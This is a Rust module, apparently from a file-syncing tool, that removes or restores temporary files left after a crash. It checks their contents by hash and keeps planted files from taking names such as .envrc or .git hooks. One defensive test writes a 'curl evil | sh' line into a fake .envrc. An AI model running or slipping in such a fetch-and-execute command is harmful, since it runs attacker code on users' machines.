//! What a crash left beside what was being changed. Of two kinds: files of our own, which nobody looks for, and what was
//! taken from under its name to be looked at. The latter may be what somebody saved at that moment: its name says which
//! bytes are recorded, and whatever else it holds is kept.

use std::collections::HashSet;
use std::fs::File;
use std::io::Read;
use std::os::fd::{AsFd, OwnedFd};
use std::sync::{LazyLock, Mutex, PoisonError};
use std::time::Duration;

use rustix::fs::{AtFlags, Dir, FileType, Mode, OFlags};
use rustix::io::Errno;
use uuid::Uuid;

use super::aside::{Kept, give_back, keep_beside};
use crate::protected::runs_later;
use crate::root::{READ, file_type, identity};
use crate::{ContentHash, is_device_name};

/// Another Bosun may be at work in the same folder; none needs this long between a name and its change.
const YOUNG: Duration = Duration::from_secs(10);
/// Folders that are remembered as looked at; all are forgotten where there would be more.
const MAX_LOOKED_AT: usize = 4096;
/// Characters of a hash that a name says: enough to tell a save apart, short enough to stand in a name.
const DIGEST: usize = 16;
/// Bytes of what a crash left that are read to find out whether they are recorded, while a change waits for it. More are
/// somebody's, whatever they are.
const MOST_HASHED: u64 = 64 * 1024 * 1024;
/// Longest name, in bytes, that a folder takes whose names are encrypted. Others take more.
const LONGEST_NAME: usize = 143;

/// A moment before this process made its first name.
static BEGUN: LazyLock<Duration> = LazyLock::new(|| made_at(Uuid::now_v7()).unwrap_or_default());
/// Folders that had none, or have none any more: those of a crash do not become more while this process lives.
static LOOKED_AT: LazyLock<Mutex<HashSet<(u64, u64)>>> = LazyLock::new(Mutex::default);

/// Hidden, so that no search meets it, and not to be guessed. It says when it was made.
pub(super) fn fresh_name() -> String {
    LazyLock::force(&BEGUN);
    format!(".bosun-{}.tmp", Uuid::now_v7().simple())
}

/// As [`fresh_name`], for something that may not be ours: it says of which bytes nobody needs it, and what it was called
/// (the beginning of that, where it is long).
pub(super) fn aside_name(name: &str, recorded: &[&ContentHash]) -> String {
    LazyLock::force(&BEGUN);
    let digests: Vec<&str> = recorded.iter().filter_map(|hash| hash.as_str().get(..DIGEST)).collect();
    let head = format!(".bosun-{}.{}.", Uuid::now_v7().simple(), digests.join("-"));
    let room = LONGEST_NAME.saturating_sub(head.len() + ".tmp".len());
    let begin = name.get(..name.floor_char_boundary(room)).unwrap_or_default();
    format!("{head}{begin}.tmp")
}

/// Where what `waiting` was given by [`aside_name`] stays, beside `name`.
pub(super) fn beside_name(name: &str, waiting: &str) -> String {
    let word = waiting.strip_prefix(".bosun-").and_then(|rest| rest.split('.').next()).unwrap_or(waiting);
    format!("{name}.bosun-{word}")
}

/// Takes them out of `folder`, once in the life of this process.
pub(super) fn remove_once(folder: &OwnedFd) {
    let Ok(stat) = rustix::fs::fstat(folder) else { return };
    let id = identity(&stat);
    let looked_at = || LOOKED_AT.lock().unwrap_or_else(PoisonError::into_inner);
    if looked_at().contains(&id) {
        return;
    }
    if remove(folder) == Left::None {
        let mut looked_at = looked_at();
        if looked_at.len() >= MAX_LOOKED_AT {
            looked_at.clear();
        }
        looked_at.insert(id);
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Left {
    None,
    /// Some may be in use, or could not be removed.
    Some,
}

/// Takes out of `folder` what is called as [`fresh_name`] or [`aside_name`] does and is older than this process.
pub(super) fn remove(folder: &OwnedFd) -> Left {
    let Some(now) = made_at(Uuid::now_v7()) else { return Left::Some };
    let Ok(entries) = Dir::read_from(folder) else { return Left::Some };
    let mut left = Left::None;
    for entry in entries.flatten() {
        let Some(name) = entry.file_name().to_str().ok().filter(|name| name.starts_with(".bosun-")) else { continue };
        let Some((made, kind)) = Kind::of(name) else { continue };
        let Ok(stat) = rustix::fs::statat(folder, name, AtFlags::SYMLINK_NOFOLLOW) else { continue };
        if matches!(kind, Kind::Own) && file_type(&stat) != FileType::RegularFile {
            continue;
        }
        if made >= *BEGUN || now.saturating_sub(made) < YOUNG {
            left = Left::Some;
            continue;
        }
        let needed = match kind {
            Kind::Own => Ok(None),
            Kind::Aside { recorded, called } => {
                is_recorded(folder, name, file_type(&stat), recorded).map(|known| (!known).then_some(called))
            }
        };
        let removed = match needed {
            Ok(None) => rustix::fs::unlinkat(folder, name, AtFlags::empty()),
            Ok(Some(called)) => {
                if restored_as(folder, called, name).is_some_and(|stays| stays == name) {
                    left = Left::Some;
                }
                continue;
            }
            Err(errno) => Err(errno),
        };
        match removed {
            Ok(()) => tracing::info!(%name, "a temporary file that a crash left behind was removed"),
            Err(errno) => {
                tracing::debug!(%name, %errno, "a temporary file that a crash left behind stays");
                left = Left::Some;
            }
        }
    }
    left
}

/// Gives what may be somebody's the name it was `called`, where that is whole and free; else the name it has beside that.
fn restored_as(folder: &OwnedFd, called: &str, waiting: &str) -> Option<String> {
    // No more than a part of one character is missing from a name that did not fit. And whoever made it may have made it to
    // be called like what runs later, about which nobody was asked.
    let is_armed = runs_later(std::iter::once(called)) || is_device_name(called);
    if is_armed || waiting.len() + char::MAX.len_utf8() > LONGEST_NAME {
        return Some(keep_beside(folder.as_fd(), called, waiting));
    }
    match give_back(folder.as_fd(), called, waiting) {
        Ok(()) => {
            tracing::warn!(%called, "what a crash left without its name has it again");
            None
        }
        Err(Kept { name, .. }) => Some(name),
    }
}

/// Whether all that `name` holds is one of the `recorded`.
fn is_recorded(folder: &OwnedFd, name: &str, kind: FileType, recorded: &str) -> Result<bool, Errno> {
    let is_one = |hash: ContentHash| recorded.split('-').any(|digest| hash.as_str().get(..DIGEST) == Some(digest));
    match kind {
        FileType::RegularFile => {
            let file = File::from(rustix::fs::openat(folder, name, READ | OFlags::NOFOLLOW, Mode::empty())?);
            let mut hasher = blake3::Hasher::new();
            let io = |error: std::io::Error| Errno::from_io_error(&error).unwrap_or(Errno::IO);
            hasher.update_reader(file.take(MOST_HASHED + 1)).map_err(io)?;
            Ok(hasher.count() <= MOST_HASHED && is_one(ContentHash::from_blake3(hasher.finalize())))
        }
        FileType::Symlink => {
            let target = rustix::fs::readlinkat(folder, name, Vec::new())?;
            Ok(is_one(ContentHash::of(target.as_bytes())))
        }
        FileType::Directory => Ok(false),
        // It has no bytes; where some were recorded it is something else.
        _ => Ok(recorded.is_empty()),
    }
}

/// What has a name of ours.
enum Kind<'a> {
    /// Bytes of our own.
    Own,
    Aside {
        recorded: &'a str,
        called: &'a str,
    },
}

impl<'a> Kind<'a> {
    /// With the time when the name was made, since 1970.
    fn of(name: &'a str) -> Option<(Duration, Self)> {
        let ours = name.strip_prefix(".bosun-")?.strip_suffix(".tmp")?;
        let Some((word, rest)) = ours.split_once('.') else { return Some((word_made_at(ours)?, Self::Own)) };
        let (recorded, called) = rest.split_once('.')?;
        let is_digest = |text: &str| text.len() == DIGEST && text.bytes().all(|byte| byte.is_ascii_hexdigit());
        let is_ours = (recorded.is_empty() || recorded.split('-').all(is_digest)) && !called.is_empty();
        Some((word_made_at(word)?, Self::Aside { recorded, called })).filter(|_| is_ours)
    }
}

fn word_made_at(word: &str) -> Option<Duration> {
    let id = Uuid::try_parse(word).ok()?;
    // Other ways to write the same number are not ours.
    (id.get_version_num() == 7 && id.simple().to_string() == word).then(|| made_at(id)).flatten()
}

/// Since 1970.
fn made_at(id: Uuid) -> Option<Duration> {
    let (seconds, nanoseconds) = id.get_timestamp()?.to_unix();
    Some(Duration::new(seconds, nanoseconds))
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::path::Path;

    use pretty_assertions::assert_eq;
    use uuid::Uuid;

    use super::{DIGEST, LONGEST_NAME, aside_name, fresh_name, made_at};
    use crate::{Backend, ContentHash, Expect, FilesystemBackend, FilesystemOptions, Unwitnessed, VirtualPath};

    fn name_of_age(seconds: u64) -> String {
        let now = made_at(Uuid::now_v7()).unwrap().as_millis();
        let made = u64::try_from(now).unwrap() - seconds * 1000;
        let id = uuid::Builder::from_unix_timestamp_millis(made, &[7; 10]).into_uuid();
        format!(".bosun-{}.tmp", id.simple())
    }

    fn names(folder: &Path) -> Vec<String> {
        let mut names: Vec<_> =
            fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
        names.sort();
        names
    }

    /// A folder with what a crash left, what another Bosun is at, and names that are only like it.
    fn arena() -> (tempfile::TempDir, Vec<String>) {
        let top = tempfile::tempdir().unwrap();
        let stays = [
            name_of_age(2),
            fresh_name(),
            ".bosun-notes.tmp".into(),
            format!(".bosun-{}.tmp", Uuid::nil().simple()),
            name_of_age(3600).to_uppercase(),
            name_of_age(3600).replace(".tmp", ".txt"),
        ];
        for name in stays.iter().chain([&name_of_age(3600), &name_of_age(3700)]) {
            fs::write(top.path().join(name), "left").unwrap();
        }
        // A folder of such a name is nobody's temporary file.
        let folder = name_of_age(7200);
        fs::create_dir(top.path().join(&folder)).unwrap();
        let mut stays = stays.to_vec();
        stays.push(folder);
        (top, stays)
    }

    #[tokio::test]
    async fn what_a_crash_left_goes_when_its_folder_is_written_to() {
        let (top, mut stays) = arena();
        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
        let path = VirtualPath::parse("/a.txt").unwrap();
        backend.write(&path, b"new".to_vec(), Expect::Anything, &Unwitnessed).await.unwrap();
        stays.push("a.txt".into());
        stays.sort();
        assert_eq!(names(top.path()), stays);
        // One that was too young is looked at again.
        fs::rename(top.path().join(&stays[0]), top.path().join(name_of_age(3800))).unwrap();
        backend.write(&path, b"newer".to_vec(), Expect::Anything, &Unwitnessed).await.unwrap();
        assert_eq!(names(top.path()).len(), stays.len() - 1);
    }

    /// A change that was made right before a crash is settled without another.
    #[tokio::test]
    async fn what_a_crash_left_goes_when_its_change_is_settled() {
        let (top, mut stays) = arena();
        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
        backend.tidy(&VirtualPath::parse("/a.txt").unwrap()).await;
        backend.tidy(&VirtualPath::parse("/none/a.txt").unwrap()).await;
        stays.sort();
        assert_eq!(names(top.path()), stays);
    }

    /// What is a name of our own for `name`, as if made before a crash.
    fn old_aside(name: &str, recorded: &[&str]) -> String {
        let hashes: Vec<ContentHash> = recorded.iter().map(|text| ContentHash::of(text.as_bytes())).collect();
        let aside = aside_name(name, &hashes.iter().collect::<Vec<_>>());
        let rest = aside.splitn(3, '.').nth(2).unwrap();
        format!("{}.{rest}", name_of_age(3600).trim_end_matches(".tmp"))
    }

    /// A crash between taking something from under its name and its end: a delete, or a replacement that came out.
    #[tokio::test]
    async fn what_was_taken_aside_before_a_crash_goes_only_where_it_is_recorded() {
        let top = tempfile::tempdir().unwrap();
        let at = |name: &str| top.path().join(name);
        fs::write(at(&old_aside("deleted.txt", &["old"])), "old").unwrap();
        fs::write(at(&old_aside("staged.txt", &["old", "new"])), "new").unwrap();
        fs::write(at(&old_aside("came-out.txt", &["old", "new"])), "old").unwrap();
        std::os::unix::fs::symlink("old", at(&old_aside("link", &["old"]))).unwrap();
        fs::write(at(&old_aside("saved.txt", &["old", "new"])), "saved by somebody").unwrap();
        std::os::unix::fs::symlink("elsewhere", at(&old_aside("saved-link", &["old"]))).unwrap();
        fs::create_dir(at(&old_aside("saved-folder", &["old"]))).unwrap();
        fs::write(at(&old_aside("a.pipe", &[])), "somebody's").unwrap();
        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
        backend.tidy(&VirtualPath::parse("/a.txt").unwrap()).await;
        let kept = names(top.path());
        assert_eq!(kept, ["a.pipe", "saved-folder", "saved-link", "saved.txt"], "whose names are free have them again");
        assert_eq!(fs::read_to_string(at("saved.txt")).unwrap(), "saved by somebody");
    }

    /// Something has the name by now, or nobody knows the whole of it.
    #[tokio::test]
    async fn what_was_taken_aside_before_a_crash_stays_beside_a_name_that_is_taken() {
        let top = tempfile::tempdir().unwrap();
        let at = |name: &str| top.path().join(name);
        let long = "n".repeat(200);
        fs::write(at("saved.txt"), "saved since").unwrap();
        fs::write(at(&old_aside("saved.txt", &["old"])), "saved by somebody").unwrap();
        fs::write(at(&old_aside(&long, &["old"])), "saved too").unwrap();
        // Too large to be looked through while a change waits.
        let large = fs::File::create(at(&old_aside("large", &["old"]))).unwrap();
        large.set_len(1 << 40).unwrap();
        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
        backend.tidy(&VirtualPath::parse("/a.txt").unwrap()).await;
        let kept = names(top.path());
        assert_eq!((kept.len(), kept[0].as_str(), kept[2].as_str()), (4, "large", "saved.txt"), "{kept:?}");
        assert_eq!(fs::read_to_string(at("saved.txt")).unwrap(), "saved since");
        assert_eq!(fs::read_to_string(at(&kept[3])).unwrap(), "saved by somebody");
        assert!(
            kept[3].starts_with("saved.txt.bosun-") && kept[1].starts_with("nnn") && kept[1].contains(".bosun-"),
            "{kept:?}"
        );
    }

    /// Anybody can make a file that looks like what was taken aside, and nobody was asked about what it would be called.
    #[tokio::test]
    async fn nothing_is_called_again_like_what_runs_later() {
        let top = tempfile::tempdir().unwrap();
        let at = |name: &str| top.path().join(name);
        fs::write(at(&old_aside(".envrc", &[])), "curl evil | sh").unwrap();
        fs::create_dir_all(at(&old_aside(".git", &[])).join("hooks")).unwrap();
        let backend = FilesystemBackend::open(top.path(), FilesystemOptions::default()).unwrap();
        backend.tidy(&VirtualPath::parse("/a.txt").unwrap()).await;
        let kept = names(top.path());
        assert!(kept[0].starts_with(".envrc.bosun-") && kept[1].starts_with(".git.bosun-"), "{kept:?}");
    }

    /// Names that are long, and text that only looks like ours.
    #[test]
    fn a_name_for_what_is_aside_fits_everywhere_and_is_told_apart() {
        let hash = ContentHash::of(b"old");
        let aside = aside_name(&"名".repeat(80), &[&hash, &hash]);
        assert!(aside.len() <= LONGEST_NAME && super::Kind::of(&aside).is_some(), "{aside}");
        let word = Uuid::now_v7().simple();
        for other in ["txt", "0123.a", &format!("{}.", "0".repeat(DIGEST)), &format!("{}-.a", "0".repeat(DIGEST))] {
            assert!(super::Kind::of(&format!(".bosun-{word}.{other}.tmp")).is_none(), "{other}");
        }
    }
}
